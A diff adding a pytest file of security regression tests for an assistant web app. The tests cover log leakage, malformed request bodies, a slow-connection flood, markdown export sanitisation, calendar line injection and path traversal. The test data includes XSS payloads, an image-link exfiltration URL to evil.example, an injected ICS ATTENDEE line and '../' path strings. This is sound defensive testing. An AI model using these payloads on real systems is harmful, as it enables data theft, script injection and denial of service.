@@ -1,0 +1,213 @@
+"""What was tried by hand with a login and the source, and worked, must not work again."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import date
+from pathlib import Path
+
+import httpx
+import pytest
+
+from assistant.accounts import Passwords, Role
+from assistant.adapters.database import open_database
+from assistant.adapters.sql_accounts import SqlAccounts
+from assistant.domain import Answer, Commitment, Coverage, Label, Turn
+from assistant.errors import UserMistake
+from assistant.privacy import inert
+from assistant.studio import Studio
+from tests.integration.home import files_with, small_knowledge
+from tests.servers.installation import PASSWORD
+from ui.exports import calendar, markdown
+from ui.texts import texts
+
+ROOT = Path(__file__).resolve().parents[2]
+MARK = "Quivermark-4711"
+HALF = "\\ud800"
+"""Half a character, as JSON can write it and no file can hold it."""
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
+    """`tightrope serve` as it is, in a process of its own, and the file of what it printed."""
+    folder = tmp_path_factory.mktemp("served")
+    small_knowledge(folder)
+    (folder / "data").mkdir()
+    url = f"sqlite:///{folder / 'data' / 'tightrope.sqlite'}"
+    accounts = Passwords(SqlAccounts(open_database(url)))
+    accounts.add("maya", PASSWORD, ())
+    accounts.add("carl", PASSWORD, (Role.COACH,))
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    settings = {
+        "TIGHTROPE_KNOWLEDGE": str(folder / "knowledge"),
+        "TIGHTROPE_DATA": str(folder / "data"),
+        "TIGHTROPE_PROMPTS": str(ROOT / "prompts"),
+        "TIGHTROPE_SIGNIN__MODE": "password",
+        "TIGHTROPE_SERVER__PORT": str(port),
+        "PYTHONPATH": os.pathsep.join((os.environ["PYTHONPATH"], str(ROOT))),
+    }
+    printed = folder / "printed"
+    with printed.open("wb") as out:
+        server = subprocess.Popen(
+            [sys.executable, "-m", "assistant.cli", "serve"],
+            env={**os.environ, **settings},
+            cwd=folder,
+            stdout=out,
+            stderr=out,
+        )
+    home = f"http://127.0.0.1:{port}"
+    try:
+        for _ in range(600):
+            try:
+                if httpx.get(f"{home}/healthz").status_code == 200:
+                    break
+            except httpx.TransportError:
+                time.sleep(0.1)
+        yield home, printed
+    finally:
+        server.kill()
+        server.wait()
+
+
+@contextmanager
+def signed_in(home: str, name: str) -> Iterator[httpx.Client]:
+    with httpx.Client(base_url=home, timeout=60) as browser:
+        given = browser.post("/signin", data={"name": name, "password": PASSWORD})
+        assert given.status_code == 303
+        yield browser
+
+
+def event(browser: httpx.Client, handler: int, session: str, raw: str) -> str:
+    """Send one event of a page, its `event_data` written by hand, and read what comes back."""
+    body = f'{{"fn_index":{handler},"session_hash":"{session}","data":[],"event_data":{raw}}}'
+    headers = {"Content-Type": "application/json"}
+    joined = browser.post("/gradio_api/queue/join", content=body.encode(), headers=headers)
+    if joined.status_code != 200:
+        return joined.text
+    with browser.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as stream:
+        for line in stream.iter_lines():
+            if "process_completed" in line:
+                return line
+    return ""
+
+
+def handlers(browser: httpx.Client) -> list[int]:
+    return [one["id"] for one in browser.get("/config").json()["dependencies"]]
+
+
+def test_what_fails_is_logged_without_what_was_written(served: tuple[str, Path]) -> None:
+    home, printed = served
+    with signed_in(home, "carl") as carl:
+        for number in handlers(carl):
+            for do in ("open", "save", "publish", "erase", "keep", "rename", "ask", "give"):
+                asked = {"do": do, "note": f"feedback/{MARK * 500}.md", "text": MARK, "title": MARK}
+                asked |= {"question": MARK, "conversation": MARK, "correction": MARK, "turn": MARK}
+                event(carl, number, f"{number}{do}", json.dumps(asked))
+        said = printed.read_text("utf-8", "replace")
+        assert MARK not in said
+        assert "Traceback (most recent call last)" not in said
+
+
+def test_half_a_character_breaks_nothing_and_is_not_sent_back(served: tuple[str, Path]) -> None:
+    home, printed = served
+    with signed_in(home, "maya") as maya:
+        body = f'{{"question":"{MARK} {HALF}","conversation":"c"}}'.encode()
+        headers = {"Content-Type": "application/json"}
+        refused = maya.post("/api/ask", content=body, headers=headers)
+        assert refused.status_code == 422
+        assert MARK not in refused.text
+        for number in handlers(maya):
+            raw = f'{{"do":"ask","question":"Sam {HALF} is late","text":"{HALF}","name":"a{HALF}"}}'
+            if "Only those with the role" not in (said := event(maya, number, f"h{number}", raw)):
+                assert '"success":true' in said or "no backend" in said or '"error":null' in said
+        assert "UnicodeEncodeError" not in printed.read_text("utf-8", "replace")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b'{"question":' + b"[" * 400_000,
+        b'{"question":' + b"9" * 900_000 + b"}",
+        b'{"question":"\xe9"}',
+        b"",
+        b"null",
+        b'{"question": NaN}',
+        b'{"question": "x", "question": ["y"]}',
+    ],
+    ids=["deep", "digits", "latin", "empty", "null", "nan", "twice"],
+)
+def test_a_strange_body_is_a_plain_refusal(served: tuple[str, Path], body: bytes) -> None:
+    with signed_in(served[0], "maya") as maya:
+        for route in ("/api/ask", "/gradio_api/queue/join"):
+            given = maya.post(route, content=body, headers={"Content-Type": "application/json"})
+            assert 400 <= given.status_code < 500
+
+
+def test_many_who_send_nothing_keep_nobody_out(served: tuple[str, Path]) -> None:
+    home, _ = served
+    port = int(home.rsplit(":", 1)[1])
+    slow = [socket.create_connection(("127.0.0.1", port)) for _ in range(200)]
+    start = b"POST /signin HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 900000\r\n\r\nname="
+    try:
+        for number, one in enumerate(slow):
+            one.sendall(start if number % 2 else start[:30])
+        with signed_in(home, "maya") as maya:
+            assert maya.get("/api/me").json()["name"] == "maya"
+    finally:
+        for one in slow:
+            one.close()
+
+
+LIVE = [
+    "![x](https://evil.example/p.png?d=secret)",
+    "[here](javascript:alert(1))",
+    "[here][1]\n\n[1]: https://evil.example",
+    "![x][1]",
+    "<img src=x onerror=alert(1)>",
+    "<https://evil.example>",
+    "<script>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("text", LIVE)
+def test_an_export_loads_nothing_wherever_it_is_opened(text: str) -> None:
+    answer = Answer(text, "en", Coverage.GROUNDED, text, cautions=(text,), script=text)
+    gift = markdown(text, [Turn("t", "c", text, answer, 0.0)], texts("en"))
+    for live in ("<", "](", "]:", "!["):
+        assert live not in gift.text
+        assert live not in inert(text)
+    assert "/" not in gift.name
+    assert "\\" not in gift.name
+
+
+def test_a_step_adds_no_line_of_its_own_to_a_calendar() -> None:
+    today = date(2026, 11, 23)
+    for end in ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"):
+        text = f"Talk{end}ATTENDEE:mailto:x@evil.example{end}END:VEVENT;x,y\\n"
+        rows = calendar([Commitment("k", text, Label.LEADERSHIP, today, today)]).text.splitlines()
+        assert not [row for row in rows if row.startswith(("ATTENDEE", "END:VEVENT;"))]
+
+
+def test_a_title_is_data_and_a_path_is_no_longer_than_paths_are(tmp_path: Path) -> None:
+    knowledge = small_knowledge(tmp_path)
+    (knowledge / "template.md").write_text((ROOT / "knowledge" / "template.md").read_text("utf-8"))
+    studio = Studio(knowledge, tmp_path / "desk")
+    for number, title in enumerate(("Café culture", r"x \1 \g<0>", 'a" \nstatus: published', "\\")):
+        path = studio.begin("feedback", f"{title} {number}x", "carl", 0.0)
+        front = studio.text(path).split("---")[1]
+        assert front.count("\nstatus:") == 1
+        assert "status: draft" in front
+        assert f"{number}x" in front
+    for path in (f"feedback/{'a' * 5_000}.md", f"{'a/' * 50}b.md", "feedback/../x.md", "/x.md"):
+        with pytest.raises(UserMistake):
+            studio.text(path)
+    assert files_with(tmp_path, "status: published\nstatus") == []
